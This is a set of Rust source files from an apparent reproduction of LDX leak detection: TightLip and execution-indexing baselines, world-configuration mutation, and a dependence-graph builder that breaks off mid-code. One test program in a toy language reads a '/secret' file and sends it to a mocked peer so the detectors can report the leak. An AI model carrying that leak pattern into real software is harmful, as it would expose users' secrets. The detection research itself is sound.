                .map(|i| format!("let x{i} = read(fd, 1);\n"))
                .collect();
            let src = format!(
                r#"fn main() {{
                    let fd = open("/in", 0);
                    let mode = trim(read(fd, 4));
                    if (mode == "deep") {{ {reads} }}
                    send(connect("out"), "ok");
                }}"#
            );
            build(&src)
        };
        let cfg = VosConfig::new()
            .file("/in", "flat____________________________")
            .peer("out", PeerBehavior::Echo);
        let sources = vec![SourceSpec {
            matcher: SourceMatcher::FileRead("/in".into()),
            mutation: Mutation::Replace("deep____________________________".into()),
        }];
        let tolerated = tightlip_execute(
            make(WINDOW - 1),
            &cfg,
            &sources,
            &SinkSpec::NetworkOut,
            ExecConfig::default(),
        );
        assert!(!tolerated.reported, "{:?}", tolerated.reason);
        let beyond = tightlip_execute(
            make(WINDOW + 2),
            &cfg,
            &sources,
            &SinkSpec::NetworkOut,
            ExecConfig::default(),
        );
        assert!(beyond.reported, "divergence beyond the window");
    }

    #[test]
    fn ei_dualex_aligns_identical_streams() {
        let p = build(
            r#"fn main() {
                let fd = open("/in", 0);
                let d = read(fd, 4);
                write(3, "fixed");
            }"#,
        );
        let cfg = VosConfig::new().file("/in", "abcd");
        let sources = vec![SourceSpec::file("/in").with_mutation(Mutation::Identity)];
        let r = ei_dual_execute(p, &cfg, &sources, &SinkSpec::Outputs, ExecConfig::default());
        assert!(r.master.is_ok() && r.slave.is_ok());
        assert!(!r.reported, "identical runs align");
        assert!(r.aligned >= 3);
    }

    #[test]
    fn ei_dualex_detects_leak_or_divergence() {
        let p = build(
            r#"fn main() {
                let fd = open("/secret", 0);
                let s = read(fd, 8);
                send(connect("out"), s);
            }"#,
        );
        let cfg = VosConfig::new()
            .file("/secret", "aaa")
            .peer("out", PeerBehavior::Echo);
        let r = ei_dual_execute(
            p,
            &cfg,
            &[SourceSpec::file("/secret")],
            &SinkSpec::NetworkOut,
            ExecConfig::default(),
        );
        assert!(r.reported);
    }

    #[test]
    fn ei_dualex_reports_divergence_on_path_difference() {
        let (p, cfg, sources) = path_diff_no_leak();
        let r = ei_dual_execute(
            p,
            &cfg,
            &sources,
            &SinkSpec::NetworkOut,
            ExecConfig::default(),
        );
        assert!(r.reported, "EI streams diverge on path differences");
    }
}
