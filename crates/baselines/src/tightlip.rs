//! A TightLip-like baseline (Yumerefendi et al., NSDI'07).
//!
//! TightLip runs a "doppelganger" of the original process with scrubbed
//! secrets and compares syscall streams *positionally*, tolerating only a
//! small window of reordering. It has no execution alignment: when the
//! perturbation changes which syscalls run (different branch, extra
//! reads), TightLip cannot tell a harmless path difference from a leak and
//! reports/terminates. Paper Table 2 contrasts this with LDX, which aligns
//! through the divergence and only reports when *sinks* differ.
//!
//! The reproduction runs both executions to completion (master on the
//! original world, doppelganger on a source-mutated world), records their
//! per-thread syscall streams, and compares them with a sliding window.

use crate::config_mutate::mutate_config;
use ldx_dualex::{SinkSpec, SourceSpec};
use ldx_runtime::{
    run_program, ExecConfig, NativeHooks, RecordingHooks, RunOutcome, SyscallEvent, ThreadKey,
    Trap, Value,
};
use ldx_vos::{Vos, VosConfig};
use std::collections::BTreeMap;
use std::sync::Arc;

/// The TightLip verdict for one program + mutation.
#[derive(Debug, Clone)]
pub struct TightLipReport {
    /// Whether TightLip reports a (potential) leak.
    pub reported: bool,
    /// Index of the first syscall mismatch, if any.
    pub first_divergence: Option<usize>,
    /// Why it reported.
    pub reason: Option<String>,
    /// Syscalls compared before the verdict.
    pub compared: usize,
    /// Outcomes of the two runs.
    pub master: Result<RunOutcome, Trap>,
    /// See [`TightLipReport::master`].
    pub doppelganger: Result<RunOutcome, Trap>,
}

/// The tolerance window: how far ahead TightLip searches for a matching
/// syscall before declaring divergence ("it uses a window to tolerate
/// syscall differences. The simple approach can hardly handle nontrivial
/// differences" — paper §9).
pub const WINDOW: usize = 4;

/// Runs the TightLip-like analysis.
pub fn tightlip_execute(
    program: Arc<ldx_ir::IrProgram>,
    config: &VosConfig,
    sources: &[SourceSpec],
    sinks: &SinkSpec,
    exec: ExecConfig,
) -> TightLipReport {
    let (master_events, master_out) = record_run(Arc::clone(&program), config, exec);
    let mutated = mutate_config(config, sources);
    let (dg_events, dg_out) = record_run(program, &mutated, exec);

    // Compare per thread, positionally with a small window.
    let by_thread = |events: Vec<SyscallEvent>| {
        let mut map: BTreeMap<ThreadKey, Vec<SyscallEvent>> = BTreeMap::new();
        for e in events {
            map.entry(e.thread.clone()).or_default().push(e);
        }
        map
    };
    let master_by = by_thread(master_events);
    let dg_by = by_thread(dg_events);

    let mut compared = 0usize;
    let mut first_divergence = None;
    let mut reason = None;

    let mut threads: Vec<&ThreadKey> = master_by.keys().collect();
    for t in dg_by.keys() {
        if !master_by.contains_key(t) {
            threads.push(t);
        }
    }
    'outer: for thread in threads {
        let empty = Vec::new();
        let m = master_by.get(thread).unwrap_or(&empty);
        let d = dg_by.get(thread).unwrap_or(&empty);
        let mut di = 0usize;
        for (mi, me) in m.iter().enumerate() {
            compared += 1;
            // Search for a match within the window.
            let found = (di..(di + WINDOW).min(d.len())).find(|&j| events_match(me, &d[j]));
            match found {
                Some(j) => {
                    // Events skipped inside the window are tolerated unless
                    // one of them is an *output* the master never performed
                    // (the doppelganger compares all outputs).
                    if d[di..j].iter().any(|e| e.sys.is_output()) {
                        first_divergence = Some(mi);
                        reason = Some("doppelganger-only output".to_string());
                        break 'outer;
                    }
                    di = j + 1;
                    if (me.sys.is_output() || is_sink(sinks, me)) && me.args != d[j].args {
                        first_divergence = Some(mi);
                        reason = Some("output arguments differ".to_string());
                        break 'outer;
                    }
                }
                None => {
                    first_divergence = Some(mi);
                    reason = Some(format!(
                        "syscall mismatch beyond window at {} ({})",
                        mi, me.sys
                    ));
                    break 'outer;
                }
            }
        }
        if first_divergence.is_none() && d.len() > m.len() + WINDOW {
            first_divergence = Some(m.len());
            reason = Some("doppelganger issued extra syscalls".to_string());
            break 'outer;
        }
    }

    TightLipReport {
        reported: first_divergence.is_some(),
        first_divergence,
        reason,
        compared,
        master: master_out,
        doppelganger: dg_out,
    }
}

fn events_match(a: &SyscallEvent, b: &SyscallEvent) -> bool {
    // TightLip compares syscall numbers and non-payload arguments; we
    // compare kind + site (the "PC") but not payloads, which are checked
    // separately at sinks.
    a.sys == b.sys && a.func == b.func && a.site == b.site
}

fn is_sink(sinks: &SinkSpec, e: &SyscallEvent) -> bool {
    match sinks {
        SinkSpec::Outputs | SinkSpec::AllWrites => e.sys.is_output(),
        SinkSpec::NetworkOut => e.sys == ldx_lang::Syscall::Send,
        SinkSpec::FileOut => {
            e.sys == ldx_lang::Syscall::Write
                && matches!(e.args.first(), Some(Value::Int(fd)) if *fd >= 3)
        }
        // Site sinks are an LDX-spec concept; TightLip treats outputs.
        SinkSpec::Sites(_) => e.sys.is_output(),
    }
}

fn record_run(
    program: Arc<ldx_ir::IrProgram>,
    config: &VosConfig,
    exec: ExecConfig,
) -> (Vec<SyscallEvent>, Result<RunOutcome, Trap>) {
    let vos = Arc::new(Vos::new(config));
    let hooks = Arc::new(RecordingHooks::new(NativeHooks::new(vos)));
    let events = hooks.events_handle();
    let out = run_program(program, hooks, exec);
    let events = events.lock().clone();
    (events, out)
}
