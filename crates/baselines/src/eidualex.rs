//! An execution-indexing DualEx baseline (Kim et al., CGO'15).
//!
//! DualEx aligns a master and a slave through **execution indexing** (Xin
//! et al.): both executions stream their executed instructions to a
//! monitor, which builds tree-structured indices and aligns the executions
//! in lockstep. The alignment is precise but the cost is instruction-level
//! monitoring — the paper reports *three orders of magnitude* slowdown,
//! versus LDX's counters-plus-spinning at ~6%.
//!
//! The reproduction keeps the cost model honest: every interpreter step
//! appends to a per-thread index trace (the instruction stream the monitor
//! would consume); at every syscall the execution ships its full index to
//! the monitor rendezvous and blocks until the peer's matching syscall
//! arrives, where the two indices are compared element-wise. Divergence is
//! reported as a difference (like TightLip, DualEx-style alignment is used
//! here for overhead comparison, not to re-derive LDX's tolerance).

use crate::config_mutate::mutate_config;
use ldx_dualex::{SinkSpec, SourceSpec};
use ldx_ir::FuncId;
use ldx_lang::Syscall;
use ldx_runtime::{
    run_program, ExecConfig, NativeHooks, RunOutcome, SysOutcome, SyscallCtx, SyscallHooks,
    ThreadKey, Trap, Value,
};
use ldx_vos::{Vos, VosConfig};
use parking_lot::{Condvar, Mutex};
use std::collections::HashMap;
use std::sync::Arc;
use std::time::Duration;

/// Result of an EI dual execution.
#[derive(Debug, Clone)]
pub struct EiReport {
    /// Whether any difference (index divergence or sink payload) was found.
    pub reported: bool,
    /// Syscalls aligned by the monitor.
    pub aligned: u64,
    /// Outcomes.
    pub master: Result<RunOutcome, Trap>,
    /// See [`EiReport::master`].
    pub slave: Result<RunOutcome, Trap>,
}

/// Cap on the retained index trace per thread (memory guard; the cost of
/// maintaining and comparing indices is what the benchmark measures).
const INDEX_CAP: usize = 1 << 20;

#[derive(Default)]
struct Rendezvous {
    /// Per-thread pending master syscall: (index digest, sys, args).
    master_event: Option<(Vec<u64>, Syscall, Vec<Value>)>,
    master_done: bool,
    slave_done: bool,
    diverged: bool,
    aligned: u64,
    sink_diff: bool,
}

/// One thread-pair's rendezvous cell.
type Cell = Arc<(Mutex<Rendezvous>, Condvar)>;

struct Monitor {
    cells: Mutex<HashMap<ThreadKey, Cell>>,
    /// The monitor's instruction intake: every step of both executions is
    /// "sent" to the monitor (a shared, contended structure), modeling the
    /// per-instruction communication that makes DualEx three orders of
    /// magnitude slower than LDX's counters.
    intake: Mutex<MonitorIntake>,
    master_done: std::sync::atomic::AtomicBool,
    slave_done: std::sync::atomic::AtomicBool,
}

#[derive(Default)]
struct MonitorIntake {
    master_steps: u64,
    slave_steps: u64,
    digest: u64,
    /// The serialized instruction stream both executions ship to the
    /// monitor (bounded; models the execution-index construction).
    stream: Vec<u64>,
}

impl Monitor {
    fn cell(&self, t: &ThreadKey) -> Cell {
        let mut map = self.cells.lock();
        Arc::clone(
            map.entry(t.clone())
                .or_insert_with(|| Arc::new((Mutex::new(Rendezvous::default()), Condvar::new()))),
        )
    }

    fn peer_flags(&self) -> (bool, bool) {
        (
            self.master_done.load(std::sync::atomic::Ordering::Relaxed),
            self.slave_done.load(std::sync::atomic::Ordering::Relaxed),
        )
    }

    fn finish(&self, master: bool) {
        if master {
            self.master_done
                .store(true, std::sync::atomic::Ordering::Relaxed);
        } else {
            self.slave_done
                .store(true, std::sync::atomic::Ordering::Relaxed);
        }
        for cell in self.cells.lock().values() {
            let mut r = cell.0.lock();
            if master {
                r.master_done = true;
            } else {
                r.slave_done = true;
            }
            cell.1.notify_all();
        }
    }
}

struct EiHooks {
    native: NativeHooks,
    monitor: Arc<Monitor>,
    is_master: bool,
    sinks: SinkSpec,
    /// Per-thread instruction index traces.
    traces: Mutex<HashMap<ThreadKey, Vec<u64>>>,
}

impl EiHooks {
    fn peer_done(&self) -> bool {
        if self.is_master {
            self.monitor.peer_flags().1
        } else {
            self.monitor.peer_flags().0
        }
    }

    fn digest(&self, thread: &ThreadKey) -> Vec<u64> {
        self.traces.lock().get(thread).cloned().unwrap_or_default()
    }
}

impl SyscallHooks for EiHooks {
    fn observes_steps(&self) -> bool {
        true
    }

    fn on_step(&self, thread: &ThreadKey, func: FuncId, block: u32, idx: usize) {
        // The instruction stream the DualEx monitor consumes: every step
        // goes through the shared monitor intake (lock + index update),
        // and the faster execution is throttled to stay within a window of
        // its peer — the lockstep synchronization of the original system.
        let code = (u64::from(func.0) << 40) ^ (u64::from(block) << 16) ^ (idx as u64);
        {
            let mut intake = self.monitor.intake.lock();
            if self.is_master {
                intake.master_steps += 1;
            } else {
                intake.slave_steps += 1;
            }
            // Execution-index maintenance: mix the event into the index
            // digest (several rounds, like hashing a tree path) and append
            // it to the monitor's stream buffer.
            let mut d = intake.digest ^ code;
            for _ in 0..8 {
                d = d.rotate_left(13).wrapping_mul(0x9E37_79B9_7F4A_7C15);
                d ^= d >> 29;
            }
            intake.digest = d;
            if intake.stream.len() < (INDEX_CAP * 2) {
                intake.stream.push(code ^ d);
            }
        }
        const WINDOW: u64 = 16;
        loop {
            let intake = self.monitor.intake.lock();
            let (mine, theirs) = if self.is_master {
                (intake.master_steps, intake.slave_steps)
            } else {
                (intake.slave_steps, intake.master_steps)
            };
            drop(intake);
            if mine <= theirs + WINDOW || self.peer_done() {
                break;
            }
            std::thread::yield_now();
        }
        let mut traces = self.traces.lock();
        let trace = traces.entry(thread.clone()).or_default();
        if trace.len() < INDEX_CAP {
            trace.push(code);
        }
    }

    fn syscall(&self, ctx: &SyscallCtx, args: &[Value]) -> Result<SysOutcome, Trap> {
        let outcome = self.native.syscall(ctx, args)?;
        let cell = self.monitor.cell(&ctx.thread);
        let digest = self.digest(&ctx.thread);
        let is_sink = match &self.sinks {
            SinkSpec::NetworkOut => ctx.sys == Syscall::Send,
            SinkSpec::FileOut => {
                ctx.sys == Syscall::Write
                    && matches!(args.first(), Some(Value::Int(fd)) if *fd >= 3)
            }
            _ => ctx.sys.is_output(),
        };

        if self.is_master {
            // Publish the event and wait for the slave to consume it
            // (lockstep, like the monitor-mediated DualEx protocol).
            let (lock, cv) = &*cell;
            let mut r = lock.lock();
            if !r.diverged {
                r.master_event = Some((digest, ctx.sys, args.to_vec()));
                cv.notify_all();
                while r.master_event.is_some() && !r.slave_done && !r.diverged {
                    if ctx.stop.should_stop() {
                        break;
                    }
                    cv.wait_for(&mut r, Duration::from_millis(2));
                }
            }
        } else {
            let (lock, cv) = &*cell;
            let mut r = lock.lock();
            if !r.diverged {
                let deadline = std::time::Instant::now() + Duration::from_secs(30);
                while r.master_event.is_none() && !r.master_done && !r.diverged {
                    if ctx.stop.should_stop() || std::time::Instant::now() > deadline {
                        break;
                    }
                    cv.wait_for(&mut r, Duration::from_millis(2));
                }
                match r.master_event.take() {
                    Some((mdigest, msys, margs)) => {
                        // Element-wise index comparison: the expensive part.
                        if mdigest != digest || msys != ctx.sys {
                            r.diverged = true;
                        } else {
                            r.aligned += 1;
                            if is_sink && margs != args {
                                r.sink_diff = true;
                            }
                        }
                    }
                    None => r.diverged = true,
                }
                cv.notify_all();
            }
        }
        Ok(outcome)
    }

    fn thread_finished(&self, thread: &ThreadKey) {
        let cell = self.monitor.cell(thread);
        let mut r = cell.0.lock();
        if self.is_master {
            r.master_done = true;
        } else {
            r.slave_done = true;
        }
        cell.1.notify_all();
    }
}

/// Runs the EI-aligned dual execution (overhead-comparison baseline).
pub fn ei_dual_execute(
    program: Arc<ldx_ir::IrProgram>,
    config: &VosConfig,
    sources: &[SourceSpec],
    sinks: &SinkSpec,
    exec: ExecConfig,
) -> EiReport {
    let monitor = Arc::new(Monitor {
        cells: Mutex::new(HashMap::new()),
        intake: Mutex::new(MonitorIntake::default()),
        master_done: std::sync::atomic::AtomicBool::new(false),
        slave_done: std::sync::atomic::AtomicBool::new(false),
    });
    let mutated = mutate_config(config, sources);

    let master_hooks: Arc<dyn SyscallHooks> = Arc::new(EiHooks {
        native: NativeHooks::new(Arc::new(Vos::new(config))),
        monitor: Arc::clone(&monitor),
        is_master: true,
        sinks: sinks.clone(),
        traces: Mutex::new(HashMap::new()),
    });
    let slave_hooks: Arc<dyn SyscallHooks> = Arc::new(EiHooks {
        native: NativeHooks::new(Arc::new(Vos::new(&mutated))),
        monitor: Arc::clone(&monitor),
        is_master: false,
        sinks: sinks.clone(),
        traces: Mutex::new(HashMap::new()),
    });

    let (master, slave) = std::thread::scope(|s| {
        let mp = Arc::clone(&program);
        let mm = Arc::clone(&monitor);
        let m = s.spawn(move || {
            let r = run_program(mp, master_hooks, exec);
            mm.finish(true);
            r
        });
        let sm = Arc::clone(&monitor);
        let sl = s.spawn(move || {
            let r = run_program(program, slave_hooks, exec);
            sm.finish(false);
            r
        });
        (m.join().expect("master"), sl.join().expect("slave"))
    });

    let mut reported = false;
    let mut aligned = 0;
    for cell in monitor.cells.lock().values() {
        let r = cell.0.lock();
        reported |= r.diverged || r.sink_diff;
        aligned += r.aligned;
    }
    EiReport {
        reported,
        aligned,
        master,
        slave,
    }
}
