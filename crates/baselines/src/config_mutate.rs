//! World-level source mutation.
//!
//! The independent-execution baselines (TightLip, EI-DualEx) do not couple
//! syscall outcomes, so the perturbation is applied to the *world
//! configuration* instead of the source syscall outcomes: mutating the
//! secret file's contents, the peer's scripted data, or the entropy seed is
//! the independent-run equivalent of LDX's outcome mutation.

use ldx_dualex::{Mutation, SourceMatcher, SourceSpec};
use ldx_runtime::Value;
use ldx_vos::{PeerBehavior, VosConfig};

/// Applies every source's mutation to a copy of `config`.
pub fn mutate_config(config: &VosConfig, sources: &[SourceSpec]) -> VosConfig {
    let mut out = config.clone();
    for source in sources {
        apply(&mut out, source);
    }
    out
}

fn mutate_str(mutation: &Mutation, s: &str) -> String {
    match mutation.apply(&Value::str(s)) {
        Value::Str(out) => out.to_string(),
        other => other.stringify(),
    }
}

fn apply(config: &mut VosConfig, source: &SourceSpec) {
    match &source.matcher {
        SourceMatcher::FileRead(path) => {
            let want = ldx_vos::normalize_path(path);
            for (p, contents) in &mut config.files {
                if ldx_vos::normalize_path(p) == want {
                    *contents = mutate_str(&source.mutation, contents);
                }
            }
        }
        SourceMatcher::NetRecv(host) => {
            for (h, behavior) in &mut config.peers {
                if h == host {
                    match behavior {
                        PeerBehavior::Script(lines) => {
                            for line in lines {
                                *line = mutate_str(&source.mutation, line);
                            }
                        }
                        PeerBehavior::Respond(map) => {
                            let mutated = map
                                .iter()
                                .map(|(k, v)| (k.clone(), mutate_str(&source.mutation, v)))
                                .collect();
                            *map = mutated;
                        }
                        PeerBehavior::Echo => {}
                    }
                }
            }
        }
        SourceMatcher::ClientRecv(port) => {
            for (p, requests) in &mut config.listen {
                if p == port {
                    for r in requests {
                        *r = mutate_str(&source.mutation, r);
                    }
                }
            }
        }
        SourceMatcher::SyscallKind(sys) => {
            use ldx_lang::Syscall;
            match sys {
                Syscall::Random => config.rng_seed = config.rng_seed.wrapping_add(1),
                Syscall::Time => config.clock_start += 1,
                Syscall::GetPid => config.pid += 1,
                _ => {}
            }
        }
        // Site-level sources cannot be expressed as world mutations; the
        // independent baselines skip them (documented limitation).
        SourceMatcher::Site(_, _) => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn mutates_file_contents() {
        let cfg = VosConfig::new().file("/secret", "STAFF");
        let m = mutate_config(&cfg, &[SourceSpec::file("/secret")]);
        assert_eq!(m.file_contents("/secret"), Some("STAFG"));
        assert_eq!(cfg.file_contents("/secret"), Some("STAFF"), "original kept");
    }

    #[test]
    fn replace_mutation_rewrites_file() {
        let cfg = VosConfig::new().file("/in", "a");
        let m = mutate_config(
            &cfg,
            &[SourceSpec::file("/in").with_mutation(Mutation::Replace("B".into()))],
        );
        assert_eq!(m.file_contents("/in"), Some("B"));
    }

    #[test]
    fn mutates_peer_scripts_and_client_requests() {
        let cfg = VosConfig::new()
            .peer("host", PeerBehavior::Script(vec!["req1".into()]))
            .listen(80, vec!["GET /a".into()]);
        let m = mutate_config(&cfg, &[SourceSpec::net("host"), SourceSpec::client(80)]);
        let PeerBehavior::Script(lines) = &m.peers[0].1 else {
            panic!()
        };
        assert_eq!(lines[0], "req2");
        assert_eq!(m.listen[0].1[0], "GET /b");
    }

    #[test]
    fn entropy_sources_bump_seeds() {
        let cfg = VosConfig::new();
        let m = mutate_config(
            &cfg,
            &[SourceSpec {
                matcher: SourceMatcher::SyscallKind(ldx_lang::Syscall::Random),
                mutation: Mutation::OffByOne,
            }],
        );
        assert_ne!(m.rng_seed, cfg.rng_seed);
    }

    #[test]
    fn unmatched_paths_untouched() {
        let cfg = VosConfig::new().file("/other", "x");
        let m = mutate_config(&cfg, &[SourceSpec::file("/secret")]);
        assert_eq!(m.file_contents("/other"), Some("x"));
    }
}
