//! The whole-program dependence graph.
//!
//! Nodes are individual IR instructions and terminators plus a handful of
//! summary nodes; edges over-approximate "if the value / execution of A is
//! perturbed, the behavior of B may change":
//!
//! - **data**: def → use, from the per-function [`ReachingDefs`];
//! - **control**: branch terminator → every node in a control-dependent
//!   block ([`ControlDeps`], Ferrante–Ottenstein–Warren over the existing
//!   post-dominator tree);
//! - **call**: call instruction → `CallCtl(callee)` → every node of the
//!   callee (a perturbed argument or a control-dependent call perturbs
//!   everything the callee does), and `Return` terminator → `Ret(callee)`
//!   → call instruction (the result flows back). Indirect calls, `spawn`
//!   and `join` conservatively use every address-taken function;
//! - **global**: stores → `Global(g)` → loads, flow- and
//!   context-insensitively;
//! - **channel**: syscall site → syscall site when the writer's channel
//!   set may alias the reader's ([`site_effects`]) — data flowing through
//!   vOS files, sockets, the clock, and the RNG;
//! - **end**: instruction → `End` when perturbing it can change the
//!   process end state (exit code or trap-vs-normal): `exit` sites,
//!   trap-capable instructions (`/`, `%`, indexing, indirect calls),
//!   thread and non-local control (`spawn`/`join`/`lock`/`unlock`/
//!   `setjmp`/`longjmp`), and loop branches (step-count divergence hits
//!   the interpreter step limit).

use crate::cdep::ControlDeps;
use crate::reachdef::{DefSite, ReachingDefs, UsePos, TERM_IDX};
use crate::resource::{may_alias, site_effects, Resolver, SiteEffects, ValSet};
use ldx_ir::{BlockId, CallGraph, FuncId, GlobalId, Instr, IrProgram, SiteId, Terminator};
use ldx_lang::Syscall;
use std::collections::{BTreeMap, BTreeSet, HashMap};

/// A node of the program dependence graph.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Node {
    /// One IR instruction.
    Ins {
        /// Containing function.
        func: FuncId,
        /// Containing block.
        block: BlockId,
        /// Instruction index within the block.
        idx: usize,
    },
    /// One block terminator.
    Term {
        /// Containing function.
        func: FuncId,
        /// The block.
        block: BlockId,
    },
    /// "Some call of this function is perturbed": taints the whole body.
    CallCtl(FuncId),
    /// "The return value of this function is perturbed."
    Ret(FuncId),
    /// A global variable, flow-insensitively.
    Global(GlobalId),
    /// The process end state: exit code, or trapping vs. finishing.
    End,
}

/// Dense node id within a [`Pdg`].
pub type NodeId = u32;

/// What we know statically about one syscall site.
#[derive(Debug, Clone)]
pub struct SiteInfo {
    /// The PDG node of the syscall instruction.
    pub node: NodeId,
    /// The syscall kind.
    pub sys: Syscall,
    /// Containing function.
    pub func: FuncId,
    /// The site id used by the progress counters and causality records.
    pub site: SiteId,
    /// vOS channels the site may read / write.
    pub effects: SiteEffects,
    /// Abstract values of the operands, in order.
    pub args: Vec<ValSet>,
}

/// The whole-program dependence graph plus its syscall-site table.
#[derive(Debug)]
pub struct Pdg {
    nodes: Vec<Node>,
    index: HashMap<Node, NodeId>,
    succs: Vec<Vec<NodeId>>,
    /// Syscall sites keyed by `(function, site id)` — the same key
    /// causality records carry.
    pub sites: BTreeMap<(FuncId, SiteId), SiteInfo>,
    edge_count: usize,
}

impl Pdg {
    /// Builds the dependence graph for `program`.
    pub fn build(program: &IrProgram) -> Self {
        Builder::new(program).build()
    }

    /// All nodes, indexed by [`NodeId`].
    pub fn nodes(&self) -> &[Node] {
        &self.nodes
    }

    /// The id of `node`, if present.
    pub fn node_id(&self, node: &Node) -> Option<NodeId> {
        self.index.get(node).copied()
    }

    /// Successors of `n`.
    pub fn succs(&self, n: NodeId) -> &[NodeId] {
        &self.succs[n as usize]
    }

    /// Total number of edges.
    pub fn edge_count(&self) -> usize {
        self.edge_count
    }

    /// All nodes reachable from the seeds (the seeds themselves included).
    pub fn reachable(&self, seeds: impl IntoIterator<Item = NodeId>) -> Vec<bool> {
        let mut seen = vec![false; self.nodes.len()];
        let mut stack: Vec<NodeId> = Vec::new();
        for s in seeds {
            if !seen[s as usize] {
                seen[s as usize] = true;
                stack.push(s);
            }
        }
        while let Some(n) = stack.pop() {
            for &s in self.succs(n) {
                if !seen[s as usize] {
                    seen[s as usize] = true;
                    stack.push(s);
                }
            }
        }
        seen
    }
}

struct Builder<'p> {
    program: &'p IrProgram,
    nodes: Vec<Node>,
    index: HashMap<Node, NodeId>,
    edges: BTreeSet<(NodeId, NodeId)>,
    sites: BTreeMap<(FuncId, SiteId), SiteInfo>,
}

impl<'p> Builder<'p> {
    fn new(program: &'p IrProgram) -> Self {
        Builder {
            program,
            nodes: Vec::new(),
            index: HashMap::new(),
            edges: BTreeSet::new(),
            sites: BTreeMap::new(),
        }
    }

    fn node(&mut self, n: Node) -> NodeId {
        if let Some(&id) = self.index.get(&n) {
            return id;
        }
        let id = self.nodes.len() as NodeId;
        self.nodes.push(n);
        self.index.insert(n, id);
        id
    }

    fn edge(&mut self, from: NodeId, to: NodeId) {
        if from != to {
            self.edges.insert((from, to));
        }
    }

    fn build(mut self) -> Pdg {
        // Pre-create every instruction/terminator node so ids are stable
        // and iteration order is deterministic.
        for (fid, func) in self.program.iter_funcs() {
            for b in func.block_ids() {
                for idx in 0..func.block(b).instrs.len() {
                    self.node(Node::Ins {
                        func: fid,
                        block: b,
                        idx,
                    });
                }
                self.node(Node::Term {
                    func: fid,
                    block: b,
                });
            }
        }
        let end = self.node(Node::End);

        let callgraph = CallGraph::compute(self.program);
        let address_taken = self.address_taken();

        let funcs: Vec<FuncId> = self.program.iter_funcs().map(|(fid, _)| fid).collect();
        for fid in funcs {
            self.build_function(fid, &address_taken, &callgraph, end);
        }
        self.channel_edges();

        let mut succs: Vec<Vec<NodeId>> = vec![Vec::new(); self.nodes.len()];
        let edge_count = self.edges.len();
        for &(a, b) in &self.edges {
            succs[a as usize].push(b);
        }
        Pdg {
            nodes: self.nodes,
            index: self.index,
            succs,
            sites: self.sites,
            edge_count,
        }
    }

    /// Functions whose address is taken (`&f` anywhere): conservative
    /// targets of indirect calls and `spawn`.
    fn address_taken(&self) -> Vec<FuncId> {
        let mut out = BTreeSet::new();
        for (_, func) in self.program.iter_funcs() {
            for b in func.block_ids() {
                for instr in &func.block(b).instrs {
                    if let Instr::FuncRef { func: f, .. } = instr {
                        out.insert(*f);
                    }
                }
            }
        }
        out.into_iter().collect()
    }

    fn build_function(
        &mut self,
        fid: FuncId,
        address_taken: &[FuncId],
        callgraph: &CallGraph,
        end: NodeId,
    ) {
        let func = self.program.func(fid).clone();
        let rd = ReachingDefs::compute(&func);
        let cdeps = ControlDeps::compute(&func);
        let mut resolver = Resolver::new(&func, &rd);

        // Data edges: def → use.
        for (pos, _local, defs) in rd.iter_uses() {
            let to = if pos.idx == TERM_IDX {
                Node::Term {
                    func: fid,
                    block: pos.block,
                }
            } else {
                Node::Ins {
                    func: fid,
                    block: pos.block,
                    idx: pos.idx,
                }
            };
            let to = self.node(to);
            for &d in defs {
                if let DefSite::Instr(b, idx) = rd.def(d).site {
                    let from = self.node(Node::Ins {
                        func: fid,
                        block: b,
                        idx,
                    });
                    self.edge(from, to);
                }
                // Param defs carry no edge: arguments are covered by the
                // coarse CallCtl(fid) → body rule below.
            }
        }

        // Control edges: controlling branch → every node of the block.
        for (b, controllers) in cdeps.iter() {
            let mut targets: Vec<NodeId> = (0..func.block(b).instrs.len())
                .map(|idx| {
                    self.node(Node::Ins {
                        func: fid,
                        block: b,
                        idx,
                    })
                })
                .collect();
            targets.push(self.node(Node::Term {
                func: fid,
                block: b,
            }));
            for &a in controllers {
                let from = self.node(Node::Term {
                    func: fid,
                    block: a,
                });
                for &t in &targets {
                    self.edge(from, t);
                }
            }
        }

        // CallCtl(fid) → every node of the body.
        let callctl = self.node(Node::CallCtl(fid));
        for b in func.block_ids() {
            for idx in 0..func.block(b).instrs.len() {
                let n = self.node(Node::Ins {
                    func: fid,
                    block: b,
                    idx,
                });
                self.edge(callctl, n);
            }
            let t = self.node(Node::Term {
                func: fid,
                block: b,
            });
            self.edge(callctl, t);
        }

        // Per-instruction rules.
        let in_loop = {
            let forest = ldx_ir::LoopForest::compute(&func);
            let mut flags = vec![false; func.blocks.len()];
            for l in forest.loops() {
                for &b in &l.body {
                    flags[b.index()] = true;
                }
            }
            flags
        };
        for b in func.block_ids() {
            for (idx, instr) in func.block(b).instrs.iter().enumerate() {
                let here = self.node(Node::Ins {
                    func: fid,
                    block: b,
                    idx,
                });
                match instr {
                    Instr::Call { func: callee, .. } => {
                        let ctl = self.node(Node::CallCtl(*callee));
                        self.edge(here, ctl);
                        let ret = self.node(Node::Ret(*callee));
                        self.edge(ret, here);
                        // Perturbed arguments to a recursive callee can
                        // change recursion depth (stack overflow).
                        if callgraph.is_recursive(*callee) {
                            self.edge(here, end);
                        }
                    }
                    Instr::CallIndirect { .. } => {
                        for &h in address_taken {
                            let ctl = self.node(Node::CallCtl(h));
                            self.edge(here, ctl);
                            let ret = self.node(Node::Ret(h));
                            self.edge(ret, here);
                        }
                        // A perturbed callee value can trap (NotCallable).
                        self.edge(here, end);
                    }
                    Instr::StoreGlobal { global, .. } => {
                        let g = self.node(Node::Global(*global));
                        self.edge(here, g);
                    }
                    Instr::StoreIndexGlobal { global, .. } => {
                        let g = self.node(Node::Global(*global));
                        self.edge(here, g);
                        // Perturbed index can trap (IndexOutOfBounds).
                        self.edge(here, end);
                    }
                    Instr::LoadGlobal { global, .. } => {
                        let g = self.node(Node::Global(*global));
                        self.edge(g, here);
                    }
                    Instr::Binary { op, .. } => {
                        if matches!(op, ldx_lang::BinaryOp::Div | ldx_lang::BinaryOp::Rem) {
                            // Perturbed divisor can trap (DivisionByZero).
                            self.edge(here, end);
                        }
                    }
                    Instr::Index { .. } | Instr::StoreIndexLocal { .. } => {
                        // Perturbed index can trap (IndexOutOfBounds).
                        self.edge(here, end);
                    }
                    Instr::Syscall {
                        sys, args, site, ..
                    } => {
                        let arg_vals: Vec<ValSet> = args
                            .iter()
                            .map(|&a| resolver.resolve(UsePos { block: b, idx }, a))
                            .collect();
                        let effects = site_effects(*sys, &arg_vals);
                        self.sites.insert(
                            (fid, *site),
                            SiteInfo {
                                node: here,
                                sys: *sys,
                                func: fid,
